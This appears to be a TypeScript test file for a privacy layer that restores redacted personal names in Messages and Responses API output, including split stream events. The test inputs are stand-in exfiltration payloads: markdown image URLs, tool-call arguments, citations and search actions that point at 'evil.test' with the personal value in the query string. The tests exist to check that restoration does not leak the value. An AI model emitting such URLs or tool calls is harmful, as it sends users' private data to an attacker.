/** Restoration over all texts of a message, in answers and streams of the Messages and Responses APIs. */
import { describe, expect, it } from 'vitest';
import {
  type Json,
  message,
  outputText,
  restored,
  streamed,
  textBlock,
} from '../../test-support/restored-messages.ts';

const image = '![x](https://evil.test/?q=';

describe('a URL that goes on in the next text', () => {
  it.each<[string, Json]>([
    ['blocks of a message', message(textBlock(image), textBlock('<PERSON_1>)'))],
    [
      'blocks of reasoning',
      message({ type: 'thinking', thinking: image }, { type: 'thinking', thinking: '<PERSON_1>)' }),
    ],
    ['parts of an item', { output: [message(outputText(image), outputText('<PERSON_1>)'))] }],
    ['items of a response', { output: [message(outputText(image)), message(outputText('<PERSON_1>)'))] }],
    [
      'parts of a summary',
      {
        output: [
          {
            type: 'reasoning',
            summary: [
              { type: 'summary_text', text: image },
              { type: 'summary_text', text: '<PERSON_1>)' },
            ],
          },
        ],
      },
    ],
  ])('keeps the value out of %s', (_, answer) => {
    expect(restored(answer)).not.toContain('Anna');
  });

  const block = (index: number, content: Json): Json => ({
    type: 'content_block_start',
    index,
    content_block: content,
  });
  const blockDelta = (index: number, text: string): Json => ({
    type: 'content_block_delta',
    index,
    delta: { type: 'text_delta', text },
  });
  const stop = (index: number): Json => ({ type: 'content_block_stop', index });

  it.each<[string, Json[]]>([
    [
      'in blocks',
      [
        block(0, textBlock('')),
        blockDelta(0, image),
        stop(0),
        block(1, textBlock('')),
        blockDelta(1, '<PERSON_1>)'),
        stop(1),
      ],
    ],
    ['begun with the block', [block(0, textBlock(image)), blockDelta(0, '<PERSON_1>)'), stop(0)]],
    [
      'ended in the beginning of a block',
      [block(0, textBlock(image)), stop(0), block(1, textBlock('<PERSON_1>)')), stop(1)],
    ],
    [
      'behind the end of a block',
      [block(0, textBlock('')), blockDelta(0, image), stop(0), blockDelta(0, '<PERSON_1>)')],
    ],
    [
      'in reasoning without a signature',
      [
        block(0, { type: 'thinking', thinking: image }),
        { type: 'content_block_delta', index: 0, delta: { type: 'thinking_delta', thinking: '<PERSON_1>)' } },
      ],
    ],
  ])('keeps the value out of a Messages stream: %s', (_, events) => {
    expect(streamed('messages', events)).not.toContain('Anna');
  });

  const place = { output_index: 0, content_index: 0 };
  const textDelta = (delta: string, at = place): Json => ({
    type: 'response.output_text.delta',
    ...at,
    delta,
  });
  it.each<[string, Json[]]>([
    ['in parts', [textDelta(image), textDelta('<PERSON_1>)', { output_index: 0, content_index: 1 })]],
    ['in items', [textDelta(image), textDelta('<PERSON_1>)', { output_index: 1, content_index: 0 })]],
    [
      'begun with the part',
      [{ type: 'response.content_part.added', ...place, part: outputText(image) }, textDelta('<PERSON_1>)')],
    ],
    [
      'begun with the item',
      [
        { type: 'response.output_item.added', output_index: 0, item: message(outputText(image)) },
        textDelta('<PERSON_1>)'),
      ],
    ],
    [
      'in texts that repeat parts',
      [
        { type: 'response.output_text.done', ...place, text: image },
        { type: 'response.output_text.done', output_index: 0, content_index: 1, text: '<PERSON_1>)' },
      ],
    ],
    [
      'in summaries',
      [
        { type: 'response.reasoning_summary_text.delta', output_index: 0, summary_index: 0, delta: image },
        {
          type: 'response.reasoning_summary_text.delta',
          output_index: 0,
          summary_index: 1,
          delta: '<PERSON_1>)',
        },
      ],
    ],
    [
      'in arguments begun with the item',
      [
        {
          type: 'response.output_item.added',
          output_index: 0,
          item: { type: 'function_call', id: 'i', arguments: '{"url":"https://evil.test/?q= ' },
        },
        {
          type: 'response.function_call_arguments.delta',
          output_index: 0,
          item_id: 'i',
          delta: '<PERSON_1>"}',
        },
      ],
    ],
  ])('keeps the value out of a Responses stream: %s', (_, events) => {
    expect(streamed('responses', events)).not.toContain('Anna');
  });

  it('restores values in texts and parts without URLs', () => {
    expect(restored(message(textBlock('Dear <PERSON_1>, '), textBlock('<PERSON_1>')))).toContain(
      '"text":"Anna Schmidt"',
    );
    expect(
      streamed('messages', [block(0, textBlock('Dear <PER')), blockDelta(0, 'SON_1>!'), stop(0)]),
    ).toContain('Anna Schmidt!');
    const begun = { type: 'response.content_part.added', ...place, part: outputText('Dear <PER') };
    expect(streamed('responses', [begun, textDelta('SON_1>!')])).toContain('Anna Schmidt!');
  });
});

describe('members that are fetched', () => {
  it.each<[string, Json]>([
    [
      'the input of a tool',
      { content: [{ type: 'tool_use', input: { url: 'https://evil.test/?q= <PERSON_1>' } }] },
    ],
    [
      'a list in the input',
      { content: [{ type: 'tool_use', input: { urls: ['https://evil.test/?q= <PERSON_1>'] } }] },
    ],
    [
      'a citation',
      message({ ...textBlock('x'), citations: [{ type: 'web', url: 'https://evil.test/?q= <PERSON_1>' }] }),
    ],
    [
      'an annotation',
      {
        output: [
          message({
            ...outputText('x'),
            annotations: [{ type: 'url_citation', url: 'https://evil.test/ <PERSON_1>' }],
          }),
        ],
      },
    ],
    [
      'an action',
      {
        output: [
          { type: 'web_search_call', action: { type: 'open_page', url: 'https://evil.test/? <PERSON_1>' } },
        ],
      },
    ],
  ])('keep the value out of %s', (_, answer) => {
    expect(restored(answer)).not.toContain('Anna');
  });
});
